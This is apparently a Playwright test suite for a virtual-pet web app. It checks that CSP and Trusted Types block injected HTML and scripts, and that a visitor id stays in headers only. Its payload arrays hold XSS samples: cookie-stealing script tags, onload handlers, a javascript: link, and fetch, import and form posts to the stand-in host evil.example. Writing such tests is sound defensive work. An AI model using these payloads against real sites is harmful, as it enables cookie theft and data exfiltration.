import { type Page } from '@playwright/test'
import { WITH_SERVICE_WORKER, expect, test as base } from './test.ts'
import { idIn } from './visitor.ts'

declare global {
  /** Set by an attack that succeeded. */
  var stolen: string | undefined
  /** The directives that stopped something, in order. */
  var stopped: string[] | undefined
}

const EVIL = 'https://evil.example'

// These tests cause what fails other tests: messages in the console and requests to another origin.
// oxlint-disable-next-line no-empty-pattern -- Playwright reads the names of the fixtures here.
const test = base.extend({ watched: ({}, use) => use() })

test.use(WITH_SERVICE_WORKER)

test.beforeEach(async ({ page }) => {
  await page.addInitScript(() => {
    globalThis.stopped = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      globalThis.stopped?.push(effectiveDirective),
    )
  })
})

/** Counts the requests that reach the attacker's server, which answers all of them. */
async function evilServer(page: Page): Promise<string[]> {
  const reached: string[] = []
  await page.context().route(`${EVIL}/**`, (route) => {
    reached.push(route.request().url())
    return route.fulfill({ contentType: 'text/javascript', body: 'stolen = "script of theirs"' })
  })
  return reached
}

function stopped(page: Page): Promise<string[]> {
  return page.evaluate(() => globalThis.stopped ?? [])
}

async function expectNothingStolen(page: Page, reached: string[]) {
  expect(await page.evaluate(() => globalThis.stolen)).toBeUndefined()
  expect(reached).toEqual([])
}

// What an attacker writes who can put text into our HTML.
const MARKUP = [
  ['<script>stolen = document.cookie</script>', 'script-src-elem'],
  [`<script src="${EVIL}/x.js"></script>`, 'script-src-elem'],
  ['<img src="/icon.svg" onload="stolen = 1">', 'script-src-attr'],
  ['<style>body { display: none }</style>', 'style-src-elem'],
  ['<p style="position: fixed; inset: 0">Sign in</p>', 'style-src-attr'],
  [`<link rel="stylesheet" href="${EVIL}/x.css">`, 'style-src-elem'],
  [`<img src="${EVIL}/x.png">`, 'img-src'],
  [`<iframe src="${EVIL}"></iframe>`, 'frame-src'],
  [`<object data="${EVIL}/x.swf"></object>`, 'object-src'],
  [`<video src="${EVIL}/x.mp4" autoplay></video>`, 'media-src'],
  [`<base href="${EVIL}">`, 'base-uri'],
] as const

test('Injected HTML does nothing, and the game works', async ({ page, game }) => {
  const reached = await evilServer(page)
  await page.route('/virtual-pet', async (route) => {
    const response = await route.fetch()
    const markup = MARKUP.map(([text]) => text).join('')
    const body = (await response.text()).replace(/<body[^>]*>/, `$&${markup}`)
    await route.fulfill({ response, body })
  })
  await game.open()
  await game.createPet('Biscuit')
  await game.shows(50)
  const wanted = MARKUP.map(([, directive]) => directive).sort()
  await expect.poll(async () => (await stopped(page)).sort()).toEqual(wanted)
  await expectNothingStolen(page, reached)
})

// What a script could do with an attacker's text.
const ATTACKS = [
  // In a timer: code that a debugger runs directly may always use eval.
  ["setTimeout(() => eval('stolen = 1'))", 'require-trusted-types-for'],
  ["document.body.innerHTML = '<img src=/icon.svg onload=stolen=1>'", 'require-trusted-types-for'],
  ["new Worker(URL.createObjectURL(new Blob(['1'])))", 'require-trusted-types-for'],
  ["trustedTypes.createPolicy('rema-worker', {})", 'trusted-types'],
  [`import('${EVIL}/x.js').catch(() => {})`, 'script-src-elem'],
  [`fetch('${EVIL}/x').catch(() => {})`, 'connect-src'],
  [
    `const form = document.createElement('form'); form.action = '${EVIL}/x'; form.method = 'post'; document.body.append(form); form.submit()`,
    'form-action',
  ],
  [
    "const link = document.createElement('a'); link.href = 'javascript:stolen=1'; document.body.append(link); link.click()",
    'script-src-elem',
  ],
] as const

test('Scripts cannot run injected text or reach another origin', async ({ page, game }) => {
  const reached = await evilServer(page)
  await game.open()
  await expect(game.nameField).toBeVisible()
  // Registering the worker is what makes the policy; a second one must not be possible.
  await page.evaluate(() => navigator.serviceWorker.ready)
  for (const [attack, directive] of ATTACKS) {
    const before = (await stopped(page)).length
    await page.evaluate(attack).catch(() => {})
    const seen = async () => (await stopped(page)).slice(before)
    await expect.poll(seen, attack).toContain(directive)
  }
  await expectNothingStolen(page, reached)
})

test('The visitor id is sent in a header only, never in a URL or body', async ({ page, game }) => {
  const sent: string[] = []
  const headers: (string | undefined)[] = []
  page.on('request', (request) => {
    sent.push(request.url() + (request.postData() ?? ''))
    if (request.url().includes('/api/')) headers.push(request.headers()['authorization'])
  })
  await game.open()
  await game.createPet('Biscuit')
  await game.care('Feed').click()
  await game.shows(60)
  const id = await idIn(page)
  expect(new Set(headers)).toEqual(new Set([`Bearer ${id}`]))
  expect(sent.filter((text) => text.includes(String(id)))).toEqual([])
})

test('An error in a script is reported with its place only', async ({ page }) => {
  await page.route('**/assets/entry-browser-*.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: "setTimeout(() => { throw new TypeError('Wunderkatze') })",
    }),
  )
  const sent = page.waitForRequest('**/api/browser-errors')
  await page.goto('/privacy?Wunderkatze')
  const request = await sent
  expect((await request.response())?.status()).toBe(204)
  expect(request.postDataJSON()).toEqual({
    script: expect.stringMatching(/^[\w-]+\.js$/),
    line: 1,
    column: expect.any(Number),
  })
})
